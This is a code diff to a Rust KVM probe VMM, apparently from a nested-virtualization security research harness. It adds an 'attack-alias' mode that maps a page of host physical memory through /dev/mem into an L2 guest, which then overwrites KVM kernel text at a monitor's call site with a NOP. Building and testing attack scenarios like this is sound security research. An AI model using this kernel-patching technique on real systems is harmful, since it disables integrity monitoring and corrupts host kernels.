@@ -1,6 +1,11 @@
 //! `--probe`: one VM with 2 MiB of memory and one vCPU that starts in 64-bit long mode (L1's KVM runs
 //! with `ept=0`, so there is no unrestricted guest to start it in real mode), runs the [`l2`]
 //! program to its end and returns what that program reported.
+//!
+//! `--attack-alias PHYS` makes it the VMM of L1's compromised root (NESTED.md B.3, 12.1): a second
+//! memslot of one page at [`ihmi_abi::attack::IHMI_L2_MAP_GPA`] is a shared `/dev/mem` mapping of
+//! the L1 page that holds `PHYS`, and the L2 program's first act is a 4-byte write of a NOP there,
+//! at `PHYS`'s offset (KVM's text, where the monitor's call is, in the `kvm-l2-map` scenario).
 
 use std::ptr::NonNull;
 
@@ -42,10 +47,14 @@ impl ProbeReport {
     }
 }
 
-/// Runs the probe L2 with `cpuids` CPUIDs to its end.
-pub fn run(cpuids: u32) -> Result<ProbeReport> {
-    // Declared before the VM so that it is unmapped after the VM is gone.
+/// The first four bytes of a 5-byte NOP (`nopl 0x0(%rax,%rax,1)`), which the attacking L2 writes.
+const NOP4: u32 = u32::from_le_bytes([0x0f, 0x1f, 0x44, 0x00]);
+
+/// Runs the probe L2 with `cpuids` CPUIDs to its end; with `alias`, as the attacker's VMM.
+pub fn run(cpuids: u32, alias: Option<u64>) -> Result<ProbeReport> {
+    // Declared before the VM so that they are unmapped after the VM is gone.
     let mut mem = GuestMemory::new(MEM_SIZE)?;
+    let aliased = alias.map(GuestMemory::dev_mem).transpose()?;
     let kvm = Kvm::new().context("cannot open /dev/kvm (is KVM built in and are we root?)")?;
     let api = kvm.get_api_version();
     ensure!(
@@ -68,10 +77,22 @@ pub fn run(cpuids: u32) -> Result<ProbeReport> {
     };
     // SAFETY: the region is `mem`'s whole mapping, which outlives `vm` (declared before it).
     unsafe { vm.set_user_memory_region(region) }.context("KVM_SET_USER_MEMORY_REGION")?;
+    if let Some(page) = &aliased {
+        let region = kvm_userspace_memory_region {
+            slot: 1,
+            flags: 0,
+            guest_phys_addr: ihmi_abi::attack::IHMI_L2_MAP_GPA,
+            memory_size: page.len as u64,
+            userspace_addr: page.ptr.as_ptr() as u64,
+        };
+        // SAFETY: the region is `page`'s whole mapping, which outlives `vm` (declared before it).
+        unsafe { vm.set_user_memory_region(region) }
+            .context("KVM_SET_USER_MEMORY_REGION of the /dev/mem page")?;
+    }
 
     let mem = mem.as_mut_slice();
-    // The first 2 MiB, with one large page.
-    vcpu::identity_map(mem, PML4, 1);
+    // The first 2 MiB, with one large page (and the next 2 MiB, where the attacker's page is).
+    vcpu::identity_map(mem, PML4, 1 + u64::from(aliased.is_some()));
     let program = l2::program();
     mem[CODE as usize..][..program.len()].copy_from_slice(program);
 
@@ -87,6 +108,8 @@ pub fn run(cpuids: u32) -> Result<ProbeReport> {
         rsp: STACK_TOP,
         rflags: 2,
         rdi: cpuids.into(),
+        rsi: alias.map_or(0, |pa| ihmi_abi::attack::IHMI_L2_MAP_GPA + pa % 0x1000),
+        rdx: NOP4.into(),
         ..Default::default()
     };
     vcpu.set_regs(&regs).context("KVM_SET_REGS")?;
@@ -165,6 +188,35 @@ impl GuestMemory {
         Ok(Self { ptr, len })
     }
 
+    /// The page of physical memory that holds `pa`, mapped shared and writable through /dev/mem.
+    fn dev_mem(pa: u64) -> Result<Self> {
+        use std::os::fd::AsRawFd;
+        let mem = std::fs::OpenOptions::new()
+            .read(true)
+            .write(true)
+            .open("/dev/mem")
+            .context("/dev/mem (the attacker's VMM runs as root)")?;
+        let len = 0x1000;
+        // SAFETY: a fresh shared mapping of /dev/mem aliases nothing of this process; the result is
+        // checked. The mapping outlives the file, as mappings do.
+        let ptr = unsafe {
+            libc::mmap(
+                core::ptr::null_mut(),
+                len,
+                libc::PROT_READ | libc::PROT_WRITE,
+                libc::MAP_SHARED,
+                mem.as_raw_fd(),
+                (pa & !0xfff) as libc::off_t,
+            )
+        };
+        if ptr == libc::MAP_FAILED {
+            return Err(std::io::Error::last_os_error())
+                .with_context(|| format!("mmap of /dev/mem at {:#x}", pa & !0xfff));
+        }
+        let ptr = NonNull::new(ptr.cast()).context("mmap returned null")?;
+        Ok(Self { ptr, len })
+    }
+
     fn as_mut_slice(&mut self) -> &mut [u8] {
         // SAFETY: the mapping is `len` bytes, readable and writable, and lives as long as `self`;
         // the vCPU is not running while this borrow is alive.
@@ -214,7 +266,7 @@ mod tests {
     #[test]
     #[ignore = "needs /dev/kvm"]
     fn probe_on_kvm() {
-        let report = run(10).unwrap();
+        let report = run(10, None).unwrap();
         assert_eq!(
             (report.cpuids, report.pages, report.bad),
             (10, l2::PAGES, 0)
